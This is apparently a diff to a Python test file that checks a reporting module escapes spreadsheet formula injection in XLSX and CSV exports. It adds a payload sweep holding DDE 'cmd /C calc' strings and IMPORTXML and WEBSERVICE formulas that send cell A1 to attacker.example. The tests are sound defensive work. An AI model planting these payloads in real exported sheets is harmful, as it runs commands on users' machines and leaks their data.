@@ -59,7 +59,7 @@ def assert_no_formula_in(content):
 
 def same_text(read, written):
     # XML turns a bare CR into LF when the file is read back; either way the cell is text, not a formula.
-    return read in (written, written.replace("\r", "\n"))
+    return read in (written, written.replace("\r\n", "\n").replace("\r", "\n"))
 
 
 def check_xlsx(content):
@@ -203,3 +203,49 @@ def test_a_control_character_in_a_text_does_not_break_the_xlsx_export(db, clerk_
     assert response.status_code == 200
     _preamble, _header, rows, _sheet = read_xlsx(response.content)
     assert [r[TEXT].value for r in rows] == ["Báo cáo kết quả"]
+
+
+SWEEP = [
+    *HOSTILE,
+    "=",
+    "==1",
+    "+",
+    "-",
+    "@",
+    "\t",
+    "\r",
+    "\0=1+1",
+    "=cmd|' /C calc'!A0",
+    '=IMPORTXML(CONCAT("http://attacker.example/?v=",A1),"//a")',
+    '=WEBSERVICE("http://attacker.example/"&A1)',
+    '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
+    "+thisIsNotAFormula",
+    "-1",
+    '@HYPERLINK("http://attacker.example")',
+    "\t\t=1+1",
+    "\r\n=1+1",
+    "#REF!",
+    "#N/A",
+]
+
+
+@pytest.mark.parametrize("payload", SWEEP)
+def test_every_hostile_text_is_a_string_in_xlsx_and_quoted_in_csv(payload, frozen):
+    from directives.reporting.sheets import Table, csv_cell, write_csv, write_xlsx
+
+    table = Table(title="T", headers=["STT", payload], rows=[[1, payload]], filters=[("Tìm kiếm", payload)])
+    buffer = io.BytesIO()
+    write_xlsx([table], buffer)
+    assert_no_formula_in(buffer.getvalue())
+    sheet = load_workbook(io.BytesIO(buffer.getvalue())).worksheets[0]
+    cells = [c for row in sheet.iter_rows() for c in row if c.value is not None]
+    assert all(c.data_type == "s" for c in cells if not isinstance(c.value, int))
+    written = [c.value for c in cells if c.column == 2]
+    expected = payload.replace("\0", "")
+    assert written and all(same_text(v, expected) for v in written)
+    table.rows = [[1, payload]]
+    stream = io.StringIO()
+    write_csv(table, stream)
+    for line in csv.reader(io.StringIO(stream.getvalue().lstrip("\ufeff"))):
+        assert all(not cell or cell[0] not in "=+-@\t\r\0" for cell in line), line
+    assert csv_cell(payload) == "'" + payload or not payload.startswith(("=", "+", "-", "@", "\t", "\r", "\0"))
